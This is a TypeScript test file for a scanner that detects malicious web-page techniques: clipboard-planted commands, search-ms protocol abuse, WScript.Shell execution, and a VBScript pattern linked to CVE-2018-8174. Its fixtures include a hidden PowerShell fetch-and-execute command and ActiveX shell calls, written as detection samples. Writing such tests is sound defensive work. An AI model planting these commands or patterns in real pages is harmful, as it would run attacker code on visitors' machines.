import { fc, test } from '@fast-check/vitest'
import { describe, expect, it } from 'vitest'
import { scanBytes } from '#scanner/reports/scan-report.ts'
import { LIMITS } from './limits.ts'
import { unpack } from './unpack.ts'

const page = (body: string) => Buffer.from(`<!doctype html><html><body>${body}</body></html>`)
const techniques = (bytes: Buffer) => scanBytes(bytes).verdict.techniques.map(({ id }) => id)

const COPY = 'navigator.clipboard.writeText("powershell -w hidden -c iwr https://page.invalid/a | iex")'

describe('a page', () => {
  it('shows its scripts, handlers and addresses', () => {
    const { facts } = unpack(
      page(
        '<script>var a = "</b>";</script><a href="http://page.invalid/" onclick="go(&quot;x&quot;)">x</a><meta http-equiv=refresh content="0; url=search-ms:a"><iframe src="javascript:b()"></iframe>',
      ),
      { limits: LIMITS, passwords: [] },
    )
    expect(facts.find(({ kind }) => kind === 'page')).toMatchObject({
      page: {
        scripts: [{ source: 'var a = "</b>";' }, { source: 'go("x")' }, { source: 'b()' }],
        addresses: [
          { how: 'click', target: 'http://page.invalid/' },
          { how: 'redirect', target: 'search-ms:a' },
        ],
      },
    })
  })

  it.each([
    ['clipboard-command', `<button onclick='${COPY}'>copy</button>`],
    ['clipboard-command', `<script>document.getElementById("b").addEventListener("click", function () { ${COPY} })</script>`],
    ['clipboard-command', `<script>class Later { async run() { await ${COPY} } }</script>`],
    ['page-protocol', '<script>location = "search-ms:query=a&crumb=location:\\\\\\\\host.invalid\\\\share"</script>'],
    ['page-protocol', '<iframe src="search:query=a&crumb=location:%5C%5Chost.invalid"></iframe>'],
    ['script-execution', '<script>new ActiveXObject("WScript.Shell").Run("program")</script>'],
    ['script-execution', '<script language="VBScript">CreateObject("WScript.Shell").Run "program"</script>'],
    ['script-execution', '<script>document.write(unescape("%3Cscript%3Enew ActiveXObject(\'WScript.Shell\').Run(1)%3C/script%3E"))</script>'],
  ])('has the technique %s: %s', (id, body) => expect(techniques(page(body))).toContain(id))

  it.each([
    '<button onclick=\'navigator.clipboard.writeText("npm install a")\'>copy</button>',
    '<p>powershell -c iwr https://page.invalid</p><script>navigator.clipboard.writeText(document.title)</script>',
    '<a href="search-ms:query=a">find</a>',
    '<script>window.location.href = "/next"; $(function () { $("a").click() })</script>',
    '<script type="application/json">{"a": "ActiveXObject(WScript.Shell).Run"}</script>',
  ])('has no technique: %s', (body) => expect(techniques(page(body))).toEqual([]))

  it('lists the candidate of a destructor that only copies', () => {
    const source = 'Class A\nSub Class_Terminate\nSet b(0) = c(0)\nEnd Sub\nEnd Class'
    expect(scanBytes(page(`<script language=vbscript>${source}</script>`)).verdict).toMatchObject({ cve: [], candidates: [{ id: 'CVE-2018-8174' }] })
  })

  it('is found in a script file as well', () => {
    expect(techniques(Buffer.from('var s = new ActiveXObject("WScript.Shell");\ns.Run("program");\n'))).toContain('script-execution')
    expect(techniques(Buffer.from('Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "program"\n'))).toContain('script-execution')
  })

  const whole = page(
    `<script>document.write("<script>a()</scr" + "ipt>")</script><meta http-equiv=refresh content="0;url=ms-msdt:a"><script language=vbscript>Class A\nSub Class_Terminate\nSet b(0) = c(0)\nc(0) = 1\nEnd Sub\nErase c</script>`,
  )
  test.prop([fc.nat(whole.length)], { numRuns: 200 })('is answered when it is cut off', (length) => void scanBytes(whole.subarray(0, length)))
  test.prop([fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 })], { numRuns: 300 })(
    'is answered when bytes are changed',
    (changes) => {
      const copy = Buffer.from(whole)
      for (const [at, value] of changes) copy[at] = value
      scanBytes(copy)
    },
  )
  test.each(['<script>', '<script ', '</script>', '<script></script>', 'onclick=a ', '<a onclick="', '<iframe src=javascript:a>', '<!--', 'set a(0)=b(', ':'])(
    'of %j, forty thousand times, is answered',
    (unit) => {
      const before = process.cpuUsage().user
      scanBytes(Buffer.from(`<html><script language=vbscript>class a\nsub class_terminate\n${unit.repeat(20_000)}</script>${unit.repeat(20_000)}`))
      expect((process.cpuUsage().user - before) / 1e6).toBeLessThan(3)
    },
  )
})
